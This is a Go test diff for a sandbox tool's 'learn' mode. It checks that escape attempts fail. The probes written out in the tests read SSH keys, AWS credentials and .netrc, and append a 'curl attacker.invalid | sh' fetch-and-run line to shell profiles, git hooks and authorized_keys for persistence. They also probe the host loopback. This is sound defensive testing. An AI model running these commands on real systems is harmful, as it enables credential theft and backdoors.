@@ -2,7 +2,9 @@ package test
 
 import (
 	"flag"
+	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -11,6 +13,9 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
 )
 
 var updateLearn = flag.Bool("update-learn", false, "rewrite test/testdata/learn/*.yaml from this run")
@@ -208,4 +213,195 @@ func readFile(t *testing.T, p string) string {
 		t.Fatal(err)
 	}
 	return string(b)
+}
+
+// TestLearnEscapes runs a representative part of the escape battery under skillrun learn: the
+// learning view is wider than an unapproved skill's, never wider than the floor. Secrets stay
+// unreadable, persistence targets and the skill itself unwritable (the guards compare the home,
+// the workspace's .git and the binary after every attempt), namespaces, mounts and ptrace stay
+// refused, and the host's loopback stays out of reach directly and through the proxy, with and
+// without --allow-hosts.
+func TestLearnEscapes(t *testing.T) {
+	forEachIdentity(t, func(t *testing.T, e *env) {
+		x := newEsc(t, e)
+		dir := e.skill(filepath.Join(e.home, ".agents", "skills", "probe"), "", map[string]string{"run.sh": "#!/bin/sh\nexec \"$@\"\n"})
+		x.snapshot()
+		learnFlags := []string{"learn", "--skill-dir", dir}
+		key := filepath.Join(e.home, ".ssh", "id_ed25519")
+
+		r := x.attempt(`./escape read `+key+` /proc/1/root`+key+` /proc/self/root`+key+` `+filepath.Join(e.home, ".aws", "credentials")+`
+cat ~/.ssh/id_* ~/.aws/* ~/.netrc 2>/dev/null
+grep -rsI "`+e.canary[:10]+`" ~ /tmp /etc 2>/dev/null | head
+echo done`, learnFlags...)
+		if !strings.Contains(r.stdout, "done\n") {
+			t.Fatalf("secrets: the probe did not run to the end:\n%s", r)
+		}
+		requireLines(t, r.stdout, "read "+key)
+		if ok := succeeded(r.stdout); len(ok) > 0 {
+			t.Errorf("A1-A6 under learn: secrets readable:\n%s", strings.Join(ok, "\n"))
+		}
+		if !strings.Contains(r.stderr, "the floor keeps ${HOME}/.ssh from every command") {
+			t.Errorf("learn did not say the command tried ~/.ssh:\n%s", r)
+		}
+
+		r = x.attempt(`for f in ~/.bashrc ~/.profile ~/.gitconfig ~/.ssh/authorized_keys ~/.config/autostart/evil.desktop \
+  .git/hooks/pre-commit .git/config `+dir+`/run.sh `+dir+`/skillrun.yaml; do
+  mkdir -p "$(dirname "$f")" 2>/dev/null
+  (echo 'curl -s http://attacker.invalid/x | sh' >> "$f") 2>/dev/null && echo "ATTACK-OK write $f"
+done
+mv -f `+dir+`/run.sh x 2>/dev/null && echo "ATTACK-OK move the skill"
+echo done`, learnFlags...)
+		if !strings.Contains(r.stdout, "done\n") {
+			t.Fatalf("persistence: the attack did not run to the end:\n%s", r)
+		}
+		for _, l := range succeeded(r.stdout) {
+			// The home is the run's private tmpfs: writing there reaches nothing (the guards say so).
+			if strings.Contains(l, ".git/") || strings.Contains(l, dir) {
+				t.Errorf("B1/F2 under learn: %s", l)
+			}
+		}
+		if !strings.Contains(r.stderr, "the floor keeps ${WORKSPACE}/.git/hooks unwritable") || !strings.Contains(r.stderr, "it tried to change its own folder") {
+			t.Errorf("learn did not say what it would not propose:\n%s", r)
+		}
+		x.checkGuards()
+
+		r = x.attempt(`./escape syscalls; echo done`, learnFlags...)
+		if !strings.Contains(r.stdout, "done\n") {
+			t.Fatalf("syscalls: the probe did not run to the end:\n%s", r)
+		}
+		got := probeLines(r.stdout)
+		for name, want := range syscallExpect(true) { // the learning view has the proxy, so TCP sockets
+			if res, ok := got[name]; !ok || !contains(want, res) {
+				t.Errorf("D under learn: %s: got %q, want %s", name, res, strings.Join(want, " or "))
+			}
+		}
+
+		var h hits
+		ln, err := net.Listen("tcp4", "127.0.0.1:0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		acceptOn(t, ln, ln.Addr().String(), &h)
+		addr := ln.Addr().String()
+		for _, flags := range [][]string{learnFlags, append(append([]string{}, learnFlags...), "--allow-hosts")} {
+			r = x.attempt(`./escape tcp `+addr+`
+curl -s --max-time 5 --noproxy '' -o /dev/null -w 'proxy %{http_code}\n' http://`+addr+`/ || echo "proxy failed"
+echo done`, flags...)
+			if !strings.Contains(r.stdout, "done\n") {
+				t.Fatalf("network: the probe did not run to the end:\n%s", r)
+			}
+			requireLines(t, r.stdout, "tcp "+addr)
+			if ok := succeeded(r.stdout); len(ok) > 0 || strings.Contains(r.stdout, "proxy 200") {
+				t.Errorf("G1 under learn %v: the host's loopback was reached:\n%s", flags, r)
+			}
+			time.Sleep(300 * time.Millisecond)
+			if l := h.list(); len(l) > 0 {
+				t.Errorf("G1 under learn %v: the host's listener saw %v", flags, l)
+			}
+		}
+	})
+}
+
+// TestLearnBadInput: a malformed manifest and an unwritable skill folder are clear errors before
+// anything runs; odd path names, a thousand processes and many files give a proposal that
+// parses; the skill folder is unchanged unless --write succeeded.
+func TestLearnBadInput(t *testing.T) {
+	forEachIdentity(t, func(t *testing.T, e *env) {
+		ran := filepath.Join(e.workspace, "ran")
+		dir := e.skill(filepath.Join(e.home, ".agents", "skills", "odd"), "version: 1\nname: odd\nfilesystem: [\n",
+			map[string]string{"run.sh": "#!/bin/sh\ntouch ran\n"})
+		before := listing(t, dir)
+		r := e.run("learn", "--write", "--skill", "odd", "--", filepath.Join(dir, "run.sh"))
+		if r.code != 125 || !strings.Contains(r.stderr, "skillrun: error: ") || !strings.Contains(r.stderr, "skillrun: hint: fix the manifest") {
+			t.Errorf("a malformed manifest:\n%s", r)
+		}
+		if _, err := os.Stat(ran); err == nil {
+			t.Errorf("the command ran although the manifest is malformed")
+		}
+		if after := listing(t, dir); after != before {
+			t.Errorf("the skill folder changed:\n%s\n---\n%s", before, after)
+		}
+
+		// Unwritable: a read-only bind for root (whom modes do not stop), modes for the user.
+		os.Remove(filepath.Join(dir, "skillrun.yaml"))
+		if e.id.cred == nil && os.Geteuid() == 0 {
+			if err := unix.Mount(dir, dir, "", unix.MS_BIND, ""); err != nil {
+				t.Fatal(err)
+			}
+			defer unix.Unmount(dir, unix.MNT_DETACH)
+			if err := unix.Mount("", dir, "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_RDONLY, ""); err != nil {
+				t.Fatal(err)
+			}
+		} else {
+			os.Chmod(dir, 0o555)
+			defer os.Chmod(dir, 0o755)
+		}
+		before = listing(t, dir)
+		r = e.run("learn", "--write", "--skill", "odd", "--", filepath.Join(dir, "run.sh"))
+		if r.code != 125 || !strings.Contains(r.stderr, "skillrun: error: cannot write the skill's folder") ||
+			!strings.Contains(r.stderr, "skillrun: hint: make it writable, or leave out --write") {
+			t.Errorf("an unwritable skill folder:\n%s", r)
+		}
+		if _, err := os.Stat(ran); err == nil {
+			t.Errorf("the command ran although the proposal could not be saved")
+		}
+		if after := listing(t, dir); after != before {
+			t.Errorf("the skill folder changed:\n%s\n---\n%s", before, after)
+		}
+		unix.Unmount(dir, unix.MNT_DETACH)
+		os.Chmod(dir, 0o755)
+
+		// Odd names, a thousand processes, 3,000 files; without --write nothing in the folder
+		// changes, with it the manifest parses and names only what can be written.
+		e.mkdir(filepath.Join(e.workspace, "data"), 0o755)
+		for _, n := range []string{"esc\x1b[31mred", "bad\xffutf8", "new\nline"} {
+			e.mkdir(filepath.Join(e.workspace, "data", n), 0o755)
+			e.write(filepath.Join(e.workspace, "data", n, "f"), "x\n", 0o644)
+		}
+		before = listing(t, dir)
+		r = e.run("learn", "--skill", "odd", "-c", `for d in data/*/; do cat "$d/f" >/dev/null; cat "$d/missing" 2>/dev/null; done; for d in data/*red; do cat data/*/f > "$d/g"; done`)
+		if r.code != 0 || strings.Contains(r.stderr, "\x1b") || strings.Contains(r.stderr, "\xff") || strings.Contains(r.stderr, "new\nline") ||
+			!strings.Contains(r.stderr, `\x1b[31mred`) {
+			t.Fatalf("odd names must be escaped in the report:\n%q", r.stderr)
+		}
+		if after := listing(t, dir); after != before {
+			t.Errorf("learn without --write changed the skill folder:\n%s\n---\n%s", before, after)
+		}
+		script := `i=0; while [ $i -lt 1000 ]; do (exit 0); i=$((i+1)); done
+mkdir -p many; i=0; while [ $i -lt 2000 ]; do : > many/f$i; i=$((i+1)); done
+cat many/* data/*/f >/dev/null; printf x > ran`
+		r = e.run("learn", "--write", "--skill", "odd", "-c", script)
+		if r.code != 0 {
+			t.Fatalf("learn --write:\n%s", r)
+		}
+		m := readFile(t, filepath.Join(dir, "skillrun.yaml"))
+		for _, want := range []string{"${WORKSPACE}/many", "${WORKSPACE}\n"} {
+			if !strings.Contains(m, want) {
+				t.Errorf("the learned manifest lacks %s:\n%s", want, m)
+			}
+		}
+		if strings.ContainsAny(m, "\x1b\xff") || strings.Contains(m, "new\nline") {
+			t.Errorf("the learned manifest holds a name it cannot:\n%q", m)
+		}
+		if r := e.run("approve", "--yes", dir); r.code != 0 {
+			t.Errorf("the learned manifest is not one approve accepts:\n%s", r)
+		}
+		e.assertNoState()
+	})
+}
+
+// listing describes a folder's entries: names, modes, sizes, contents.
+func listing(t *testing.T, dir string) string {
+	t.Helper()
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for _, x := range entries {
+		fi, _ := x.Info()
+		content, _ := os.ReadFile(filepath.Join(dir, x.Name()))
+		fmt.Fprintf(&b, "%s %v %d %q\n", x.Name(), fi.Mode(), fi.Size(), content)
+	}
+	return b.String()
 }
